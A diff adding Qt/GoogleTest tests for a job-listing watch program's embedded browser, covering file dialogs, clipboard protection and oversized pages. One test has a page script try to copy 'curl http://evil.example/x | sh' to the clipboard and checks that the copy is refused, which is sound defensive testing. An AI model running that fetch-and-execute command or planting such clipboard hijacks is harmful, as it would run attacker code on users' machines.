@@ -1,20 +1,32 @@
 // Pages that try to stop, flood or fool the watch, against the real window and engine.
 #include <gtest/gtest.h>
+#include <unistd.h>
 
 #include <QApplication>
+#include <QClipboard>
 #include <QComboBox>
 #include <QDesktopServices>
 #include <QDialog>
 #include <QDir>
+#include <QFileDialog>
 #include <QFileSystemWatcher>
+#include <QGuiApplication>
+#include <QLineEdit>
 #include <QMessageBox>
+#include <QPointer>
 #include <QPushButton>
+#include <QSignalSpy>
 #include <QStandardPaths>
+#include <QTemporaryDir>
+#include <QTemporaryFile>
 #include <QTest>
+#include <QTimer>
 #include <QWebEngineDownloadRequest>
 #include <QWebEngineLoadingInfo>
 #include <QWebEngineProfile>
 #include <QWebEngineSettings>
+#include <cstdio>
+#include <functional>
 #include <optional>
 
 #include "accessible_walk.h"
@@ -205,6 +217,116 @@ TEST_F(PowersAreRefused, NotificationsAndLocationAreDeniedAtOnce) {
     // The program was asked, and answered: the engine did not refuse on its own.
     EXPECT_TRUE(asked.contains(QWebEnginePage::Notifications));
     EXPECT_TRUE(asked.contains(QWebEnginePage::Geolocation));
+}
+
+// A page may open the file dialog on its user's click, for a CV to upload: the dialog names
+// the site and holds only its window, and the watch goes on while it is open (a refresh
+// reloads the page that asked, as it would any other). The engine calls the program for the
+// files and waits for them, so what the test does meanwhile runs from a timer, inside that
+// wait.
+TEST_F(PowersAreRefused, AFileDialogOnAClickLeavesTheWatchGoing) {
+    sites.pages[2] =
+        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><script>" + QByteArray(kReport) +
+        "</script></head><body><input type=file id=f style='position:fixed; left:0; top:0; "
+        "width:300px; height:200px'><script>document.getElementById('f').onchange = "
+        "function () { report('file=' + this.files[0].name); };</script></body></html>";
+    QTemporaryDir folder;
+    ASSERT_TRUE(folder.isValid());
+    const QString cv = folder.filePath(u"cv.pdf"_s);
+    QFile file(cv);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly) && file.write("%PDF-1.4\n") > 0);
+    file.close();
+    Start();
+    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }));
+    ASSERT_TRUE(WaitFor([&] { return window->pane(2)->focusProxy() != nullptr; }));
+
+    // What is seen of each dialog while it is open; `answer` closes it.
+    struct Seen {
+        QString title;
+        Qt::WindowModality modality = Qt::NonModal;
+        bool done = false;
+    };
+    QPointer<QFileDialog> dialog;
+    QList<Seen> seen;
+    std::function<bool(QFileDialog&)> answer;
+    QTimer look;
+    QObject::connect(&look, &QTimer::timeout, window.get(), [&] {
+        if (!dialog) {
+            for (QWidget* widget : QApplication::topLevelWidgets())
+                if (auto* found = qobject_cast<QFileDialog*>(widget); found && found->isVisible())
+                    dialog = found;
+            if (dialog) seen.append({dialog->windowTitle(), dialog->windowModality()});
+        }
+        if (dialog && dialog->isVisible() && !seen.last().done && answer(*dialog))
+            seen.last().done = true;
+    });
+    look.start(20);
+    // The click that a page's file field needs, until it is heard; then the answer closes the
+    // dialog and its wait ends.
+    const auto openDialog = [&] {
+        const qsizetype before = seen.size();
+        for (int attempt = 0; attempt < 10 && seen.size() == before; ++attempt) {
+            QTest::mouseClick(window->pane(2)->focusProxy(), Qt::LeftButton, {}, QPoint(40, 40));
+            WaitFor([&] { return seen.size() > before; }, 3000);
+        }
+        return WaitFor([&] { return seen.size() > before && seen.last().done && !dialog; }, 60000);
+    };
+
+    // The countdown ticks while the dialog is open, and the file chosen reaches the page.
+    QString titleAtOpen;
+    answer = [&](QFileDialog& open) {
+        if (titleAtOpen.isEmpty()) titleAtOpen = window->windowTitle();
+        if (window->windowTitle() == titleAtOpen) return false;
+        // As the user types it: selectFile() leaves alone a name field that has the focus.
+        auto* name = open.findChild<QLineEdit*>(u"fileNameEdit"_s);
+        if (!name) return false;
+        name->setText(cv);
+        static_cast<QDialog&>(open).accept();
+        return true;
+    };
+    ASSERT_TRUE(openDialog());
+    ASSERT_TRUE(WaitFor([&] { return Reports().contains(u"www.jobonline.it?file=cv.pdf"_s); }));
+
+    // A refresh while it is open logs what is new.
+    bool refreshed = false;
+    answer = [&](QFileDialog& open) {
+        if (!refreshed) {
+            refreshed = true;
+            sites.titles[1] = u"Nuovo col dialogo aperto"_s;
+            RunCountdownOut(*window);
+        }
+        if (!LogEntries(*window).contains(u"Jobrapido: NUOVO COL DIALOGO APERTO"_s)) return false;
+        open.reject();
+        return true;
+    };
+    ASSERT_TRUE(openDialog());
+
+    ASSERT_EQ(seen.size(), 2);
+    for (const Seen& each : seen) {
+        EXPECT_EQ(each.title, u"Scegli un file per www.jobonline.it"_s);
+        EXPECT_EQ(each.modality, Qt::WindowModal);
+    }
+}
+
+// Without its user's click a page's script cannot copy to the clipboard.
+TEST_F(PowersAreRefused, AScriptAloneCannotCopyToTheClipboard) {
+    QClipboard* clipboard = QGuiApplication::clipboard();
+    clipboard->setText(u"testo dell'utente"_s);
+    QSignalSpy changes(clipboard, &QClipboard::dataChanged);
+    sites.scripts[3] =
+        "addEventListener('load', function () {\n"
+        "    var area = document.createElement('textarea');\n"
+        "    area.value = 'curl http://evil.example/x | sh';\n"
+        "    document.body.appendChild(area);\n"
+        "    area.select();\n"
+        "    report('copy=' + document.execCommand('copy'));\n"
+        "});\n";
+    Start();
+    ASSERT_TRUE(WaitFor([&] { return Reports().size() >= 1; }));
+    EXPECT_EQ(Reports(), QStringList{u"www.infojobs.it?copy=false"_s});
+    // A bound on how long a copy would take to reach the clipboard.
+    EXPECT_FALSE(WaitFor([&] { return changes.count() > 0; }, 1000));
+    EXPECT_EQ(clipboard->text(), u"testo dell'utente"_s);
 }
 
 // A smaller engine: no WebGL, no plugins, no sound before the user's gesture (a page's own
@@ -417,6 +539,55 @@ TEST_F(BoundedForDays, TheLogKeepsItsNewestFiveHundredEntries) {
     EXPECT_EQ(entries.front(), u"Jobrapido: ANNUNCIO 102"_s);
     EXPECT_EQ(entries.back(), u"Jobrapido: "_s + longTitle.toUpper().left(500));
     EXPECT_EQ(log->currentText(), entries.back());
+}
+
+// What standard error receives while it lives.
+class StandardErrorFile {
+  public:
+    StandardErrorFile() {
+        std::fflush(stderr);
+        saved_ = ::dup(STDERR_FILENO);
+        if (file_.open()) ::dup2(file_.handle(), STDERR_FILENO);
+    }
+    ~StandardErrorFile() {
+        std::fflush(stderr);
+        ::dup2(saved_, STDERR_FILENO);
+        ::close(saved_);
+    }
+    QString text() {
+        std::fflush(stderr);
+        QFile read(file_.fileName());
+        return read.open(QIODevice::ReadOnly) ? QString::fromLocal8Bit(read.readAll()) : QString();
+    }
+
+  private:
+    QTemporaryFile file_;
+    int saved_ = -1;
+};
+
+// A page that grows its markup past what is read is read on its beginning, where its newest
+// listing is, and said once for its pane.
+TEST_F(BoundedForDays, AnEnormousPageIsReadOnItsBeginningAndSaidOnce) {
+    StandardErrorFile standardError;
+    sites.scripts[1] =
+        "addEventListener('DOMContentLoaded', function () {\n"
+        "    document.body.appendChild(document.createTextNode('x'.repeat(" +
+        QByteArray::number(WebPane::kMarkupUnits + 1024 * 1024) +
+        ")));\n"
+        "});\n";
+    Start();
+    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(1); }, 60000));
+    ASSERT_TRUE(captures->last(1).markup);
+    EXPECT_EQ(captures->last(1).markup->size(), WebPane::kMarkupUnits);
+    EXPECT_LT(captures->last(2).markup->size(), 10000);
+    EXPECT_EQ(EntriesSince(0), Entries(""));
+
+    sites.titles[1] = u"Dopo la pagina enorme"_s;
+    RunCountdownOut(*window);
+    ASSERT_TRUE(WaitFor([&] { return captures->eachAtLeast(2); }, 60000));
+    EXPECT_TRUE(LogEntries(*window).contains(u"Jobrapido: DOPO LA PAGINA ENORME"_s));
+    EXPECT_EQ(standardError.text().count(u"Quintavia: a page in the Jobrapido pane is longer"_s), 1)
+        << standardError.text().toStdString();
 }
 
 }  // namespace
